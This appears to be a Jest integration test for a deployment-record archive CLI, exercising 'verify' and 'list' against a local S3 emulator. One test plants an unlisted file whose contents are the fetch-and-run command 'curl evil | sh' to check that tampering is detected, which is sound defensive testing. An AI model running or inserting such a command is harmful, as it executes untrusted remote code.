// npm run archive -- verify|list against a real S3-compatible server (s3rver on loopback); the records are
// written by the deploy command itself (cdktf replaced by a stand-in script).
import { execFile } from 'child_process';
import * as path from 'path';
import { promisify } from 'util';
import { DeleteObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { archiveMain } from '../../lib/commands/archive';
import { deploy, DeployResult } from '../../lib/commands/deploy';
import { collector, deployProject, DeployProject } from '../support/deploy-project';
import { S3Server, S3RVER_CREDENTIALS, startS3Server } from '../support/s3-server';

const BUCKET = 'shop-prod-deployment-records';

let s3: S3Server;
let client: S3Client;
let project: DeployProject;
const records: DeployResult[] = [];
const prefixOf = (r: DeployResult) => r.uploadedTo!.replace(`s3://${BUCKET}/`, '');

beforeAll(async () => {
  s3 = await startS3Server([BUCKET]);
  client = new S3Client({
    region: 'eu-west-1',
    endpoint: s3.directEndpoint,
    forcePathStyle: true,
    credentials: { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' },
  });
  project = deployProject();
  // Three records: blue succeeded, green failed, green succeeded (newest); 1 ms apart at least.
  let clock = Date.parse('2026-11-20T10:00:00.000Z');
  for (const [stack, exit] of [
    ['prod-blue', '0'],
    ['prod-green', '2'],
    ['prod-green', '0'],
  ] as const) {
    clock += 60000;
    const at = clock;
    records.push(
      await deploy({
        stack,
        callerIdentity: async () => ({ principal: 'bob', source: 'test double of STS' }),
        cwd: project.root,
        stdin: 'ignore',
        stdout: () => undefined,
        stderr: () => undefined,
        now: () => new Date(at),
        env: {
          PATH: process.env.PATH,
          ...S3RVER_CREDENTIALS,
          CDKTF_BIN: project.cdktfBin,
          STANDIN_CALLS: project.callsFile,
          STANDIN_BUCKET: BUCKET,
          STANDIN_ENDPOINT: s3.endpoint,
          STANDIN_EXIT: exit,
          DEPLOY_USER: 'bob',
        },
      }),
    );
  }
});
afterAll(async () => {
  client.destroy();
  project.remove();
  await s3.close();
});

async function archive(...argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  const out = collector();
  const err = collector();
  const code = await archiveMain([...argv, '--endpoint', s3.endpoint, '--bucket', BUCKET], {
    cwd: project.root,
    env: { ...S3RVER_CREDENTIALS },
    baseDelayMs: 10,
    stdout: out.write,
    stderr: err.write,
  });
  return { code, stdout: out.text(), stderr: err.text() };
}

describe('archive verify', () => {
  test('passes an intact record, checking every file', async () => {
    const r = await archive('verify', prefixOf(records[2]));
    expect(r.code).toBe(0);
    expect(
      r.stdout
        .split('\n')
        .filter((l) => l.startsWith('ok '))
        .map((l) => l.split(/\s+/)[1]),
    ).toEqual(['deploy.log', 'stack.json', 'values.json']);
    expect(r.stdout).toContain(
      `record ${prefixOf(records[2])} is intact (3 files; succeeded deploy of ${project.commit.slice(0, 12)} by bob)`,
    );
  });

  test('accepts the prefix without the trailing slash and as an s3:// URL', async () => {
    expect((await archive('verify', prefixOf(records[0]).replace(/\/$/, ''))).code).toBe(0);
    expect((await archive('verify', `s3://${BUCKET}/${prefixOf(records[0])}`)).code).toBe(0);
  });

  test('fails on a tampered file, naming it and both digests', async () => {
    const prefix = prefixOf(records[1]);
    await client.send(
      new PutObjectCommand({ Bucket: BUCKET, Key: `${prefix}values.json`, Body: '{"traffic":{"blue":100,"green":0}}' }),
    );
    const r = await archive('verify', prefix);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^mismatch +values\.json/m);
    expect(r.stderr).toMatch(/problem: values\.json: sha256 [0-9a-f]{64} does not match the manifest's [0-9a-f]{64}/);
    expect(r.stdout).toContain('FAILED verification (1 problem)');
  });

  test('fails on a missing file and on a file the manifest does not list', async () => {
    const prefix = prefixOf(records[0]);
    await client.send(new DeleteObjectCommand({ Bucket: BUCKET, Key: `${prefix}stack.json` }));
    await client.send(new PutObjectCommand({ Bucket: BUCKET, Key: `${prefix}extra.sh`, Body: 'curl evil | sh' }));
    const r = await archive('verify', prefix, '--json');
    expect(r.code).toBe(1);
    const result = JSON.parse(r.stdout) as { problems: string[]; unexpected: string[] };
    expect(result.problems).toEqual(['stack.json: missing', 'extra.sh: not listed in the manifest']);
    expect(result.unexpected).toEqual([`${prefix}extra.sh`]);
  });

  test('fails on a record without a manifest, calling it incomplete', async () => {
    const prefix = 'deployments/prod/prod-green/20261120T095900.000Z-aaaaaaaaaaaa/';
    await client.send(new PutObjectCommand({ Bucket: BUCKET, Key: `${prefix}stack.json`, Body: '{}' }));
    const r = await archive('verify', prefix);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('incomplete record: manifest.json is missing');
  });

  test('fails on a prefix that is not a record', async () => {
    const r = await archive('verify', 'deployments/prod/');
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(
      '"deployments/prod/" is not a record prefix: expected deployments/<env>/<stack>/<time>-<sha>/',
    );
  });
});

describe('archive list', () => {
  test('lists the records newest first, with outcome, commit and user; incomplete ones flagged', async () => {
    const r = await archive('list', 'prod');
    expect(r.code).toBe(0);
    const lines = r.stdout.trim().split('\n');
    expect(lines.map((l) => l.split(/\s+/).slice(0, 2))).toEqual([
      [prefixOf(records[2]), 'succeeded'],
      [prefixOf(records[1]), 'failed'],
      [prefixOf(records[0]), 'succeeded'],
      ['deployments/prod/prod-green/20261120T095900.000Z-aaaaaaaaaaaa/', 'INCOMPLETE'],
    ]);
    expect(lines[0]).toContain(`${project.commit.slice(0, 12)}  bob`);
  });

  test('--stack and --limit narrow the list', async () => {
    const r = await archive('list', 'prod', '--stack', 'prod-green', '--limit', '1', '--json');
    const list = JSON.parse(r.stdout) as Array<{ prefix: string; stack: string; complete: boolean }>;
    expect(list.map((x) => x.prefix)).toEqual([prefixOf(records[2])]);
  });

  test('says so when an environment has no records', async () => {
    const r = await archive('list', 'staging');
    expect(r).toMatchObject({ code: 0, stdout: 'no deployment records for staging\n' });
  });
});

describe('archive CLI', () => {
  test('the npm script (bin/archive.ts) lists the records and exits 0', async () => {
    // Asynchronous on purpose: s3rver runs in this process, so a synchronous spawn would starve it.
    const root = path.resolve(__dirname, '../..');
    const run = await promisify(execFile)(
      process.execPath,
      [
        '--require',
        './bin/register.js',
        'bin/archive.ts',
        'list',
        'prod',
        '--bucket',
        BUCKET,
        '--endpoint',
        s3.endpoint,
      ],
      {
        cwd: root,
        env: { PATH: process.env.PATH, ...S3RVER_CREDENTIALS },
        timeout: 15000,
      },
    );
    expect(run.stderr).toBe('');
    expect(run.stdout).toContain(prefixOf(records[2]));
  });

  test('--help lists the subcommands', async () => {
    const out = collector();
    expect(await archiveMain(['--help'], { stdout: out.write })).toBe(0);
    expect(out.text()).toMatch(/verify <prefix>[\s\S]*list <env>[\s\S]*push <dir>/);
  });

  test('fails on an unknown subcommand', async () => {
    const r = await archive('delete', 'x');
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('unknown subcommand "delete": expected verify, list or push');
  });

  test('fails with exit 3 and the fix when the bucket does not exist', async () => {
    const err = collector();
    const code = await archiveMain(['list', 'prod', '--endpoint', s3.endpoint, '--bucket', 'nope-bucket'], {
      env: { ...S3RVER_CREDENTIALS },
      stderr: err.write,
    });
    expect(code).toBe(3);
    expect(err.text()).toContain('bucket nope-bucket does not exist');
  });
});
